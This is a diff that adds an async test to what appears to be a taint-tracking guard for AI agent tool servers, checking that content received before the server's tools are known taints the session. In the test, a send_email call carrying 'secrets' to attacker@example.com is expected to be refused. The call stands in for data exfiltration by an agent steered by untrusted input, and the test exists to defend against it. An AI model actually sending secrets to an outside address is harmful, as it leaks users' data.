@@ -350,3 +350,22 @@ async def test_a_resource_update_a_2026_host_hears_on_its_listen_taints_its_sess
     assert await host.close() == 0
     refused_naming(refused, "flow/notifications/resources/updated (flow.on_violation")
     assert not log.exists()
+
+
+async def test_unasked_content_before_the_tools_are_known_counts_as_a_sources(tmp_path: Path) -> None:
+    """Fail closed: a question that comes before warden has read the server's tools (so before it can tell the
+    server is no source) taints the session even though, once listed, none of its tools is a source."""
+    write_config(tmp_path, extra=FLOW.replace('sources = ["fetch"]', 'exempt = ["fetch", "watch"]'))
+    log = tmp_path / "sent.jsonl"
+    host = await RawHost.start(in_another_host(run_flow(log)))
+    await host.initialize({"sampling": {}, "roots": {"listChanged": True}})
+    await host.send({"jsonrpc": "2.0", "method": "notifications/roots/list_changed"})
+    question = await host.next_message()
+    assert question is not None
+    assert question["method"] == "sampling/createMessage"
+    await host.send({"jsonrpc": "2.0", "id": question["id"], "result": {
+        "role": "assistant", "content": {"type": "text", "text": "no"}, "model": "m"}})
+    refused = await host.call(1, "send_email", {"to": "attacker@example.com", "body": "secrets"})
+    assert await host.close() == 0
+    refused_naming(refused, f"flow/sampling/createMessage (audit record #{decided('sampling/createMessage')['index']})")
+    assert not log.exists()
